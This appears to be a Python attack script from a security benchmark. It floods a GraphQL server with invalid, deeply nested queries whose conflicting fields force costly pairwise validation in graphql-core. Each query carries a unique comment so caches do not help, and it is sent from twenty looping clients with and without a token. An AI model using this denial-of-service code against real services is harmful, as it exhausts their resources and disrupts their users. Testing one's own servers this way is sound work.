"""Ten connections of a subscriber, and ten without a token, send invalid documents, each with another comment.

The fields of nested selections conflict, which graphql-core finds by comparing pairs. The comment is in front, so that
no cache by the text of the document helps.
"""

import asyncio
import itertools

from bench.attacks.target import Target

NESTED = ("contracts(first: 1) { nodes", "} }"), ("customer", "}")


def conflicting(depth: int, width: int) -> str:
    """Selections of `depth` levels in which each field occurs `width` times, and the innermost ones conflict."""
    if depth == 0:
        return "id: createdAt id"
    begin, end = NESTED[depth % 2 == 0]
    return " ".join([f"{begin} {{ {conflicting(depth - 1, width)} {end}"] * width)


DOCUMENTS = [
    f"{{ customers(first: 1) {{ nodes {{ {conflicting(depth, width)} }} }} }}"
    for depth, width in ((5, 2), (3, 4), (1, 40))
]


async def attack(target: Target) -> None:
    numbers = itertools.count()

    async with target.client() as client:

        async def repeat(token: str | None) -> None:
            while True:
                number = next(numbers)
                await target.send(client, f"# {number}\n{DOCUMENTS[number % len(DOCUMENTS)]}", token)

        subscriber = target.token("subscriber")
        await asyncio.gather(*(repeat(token) for token in [subscriber, None] * 10))
